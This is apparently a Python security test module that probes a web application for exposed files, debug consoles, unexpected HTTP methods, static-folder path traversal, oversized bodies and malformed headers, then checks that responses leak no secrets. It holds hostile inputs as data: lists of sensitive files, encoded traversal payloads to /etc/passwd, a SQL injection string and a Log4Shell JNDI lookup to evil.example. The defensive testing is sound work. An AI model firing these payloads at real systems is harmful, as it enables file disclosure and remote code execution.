"""What must not be there: files, consoles, other methods, ways up from the static folder, huge bodies."""

from __future__ import annotations

from collections.abc import Iterator

from attack.arena import NOBODY, Answer, Arena, Case, Knock
from attack.classes.foreign import allowed
from attack.doors import OWN, address
from attack.judges import no_fault, refused

IDS = "A61 A62 A74 A76 A79 A83"
WHAT = "probes, other methods, paths, huge bodies"

SECRETS = (b"root:x:", b"[core]", b"SECRET_KEY", b"DATABASE_URL", b"Traceback (most recent", b"Werkzeug Debugger",
           b"def create_app", b"clinic_http_request_seconds", b"BEGIN RSA", b"Index of /")  # fmt: skip
FILES = (
    ".git/config", ".git/HEAD", ".env", ".local/env", "wsgi.py", "config.py", "requirements.txt", "docker-compose.yml",
    "compose.yaml", "Dockerfile", "deploy/secrets.env", "backup.sql", "dump.sql", "db.sqlite3", "id_rsa", ".htaccess",
    "web.config", "server-status", "phpinfo.php", "wp-login.php", ".DS_Store", ".svn/entries", "package.json",
)  # fmt: skip
PLACES = (
    "metrics", "console", "debug", "_debug", "__debug__", "debugger", "trace", "actuator", "actuator/env", "env",
    "admin/console", "rq", "rq/dashboard", "rq-dashboard", "flower", "socket.io/admin", "admin/socket", "api",
    "api/v1/users", "graphql", "swagger", "swagger.json", "openapi.json", "docs", "redoc", "health", "status", "info",
    "robots.txt", "sitemap.xml", "crossdomain.xml", "test", "failpoint", "failpoints", "clock", "_profiler", "pgadmin",
)  # fmt: skip
UP = (
    "../wsgi.py", "..%2fwsgi.py", "%2e%2e/wsgi.py", "%2e%2e%2fwsgi.py", "..%5cwsgi.py", "....//wsgi.py", "..;/wsgi.py",
    "%252e%252e%252fwsgi.py", "css/../../wsgi.py", "css/%2e%2e/%2e%2e/wsgi.py", "/etc/passwd", "%2fetc%2fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "css/shell.css%00.png", "css/shell.css/",
    "file:///etc/passwd", "%5c..%5c..%5cwindows%5cwin.ini", "css/", "", ".", "..", "vendor/", "~root/.ssh/id_rsa",
)  # fmt: skip
METHODS = ("PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "DEBUG", "FOO")
HUGE = b"name=" + b"A" * (2 << 20)
MANY = b"&".join(b"a%d=1" % number for number in range(20_000))


def hidden(answer: Answer) -> str | None:
    """Nothing of the machine or of the program's inside is in the answer."""
    told = next((each for each in SECRETS if each in answer.body), None)
    if told:
        return f"{told!r} in the answer"
    return (
        None
        if answer.status in {301, 302, 308, 400, 401, 403, 404, 405, 414}
        else f"answered {answer.status}"
    )


def cases(arena: Arena) -> Iterator[Case]:
    for who in (NOBODY, "administrator"):
        yield from _files(who)
    for policy in arena.routes:
        path = address(policy, arena.holder("administrator", OWN))
        for method in METHODS[len(path) % 2 :: 2]:
            yield Knock("another method", path, refused(400, 403, 404, 405, 501), "administrator", method)
    for policy, who in allowed(arena, "POST"):
        path = address(policy, arena.holder(who, OWN))
        kind = {"Content-Type": "application/x-www-form-urlencoded"}
        yield Knock("a huge form", path, refused(400, 413, 0), who, "POST", body=HUGE, headers=kind)
        yield Knock("very many fields", path, refused(400, 413, 0), who, "POST", body=MANY, headers=kind)
    for header in (
        "Cookie",
        "Accept-Language",
        "User-Agent",
        "Referer",
        "X-Request-Id",
        "Range",
        "If-None-Match",
    ):
        for value in ("A" * 7000, "\x01\x02", "' OR 1=1", "${jndi:ldap://evil.example/a}", "en;q=9999999999"):
            yield Knock(f"odd {header}", "/login", no_fault, NOBODY, headers={header: value})


def _files(who: str) -> Iterator[Case]:
    for path in (*FILES, *PLACES):
        yield Knock("probe", f"/{path}", hidden, who)
    for path in UP:
        for begin in ("/static/", "/board/logo/", "/link/"):
            yield Knock("a way up", begin + path, _no_secret, who)


def _no_secret(answer: Answer) -> str | None:
    told = next((each for each in SECRETS if each in answer.body), None)
    return f"{told!r} in the answer" if told else None
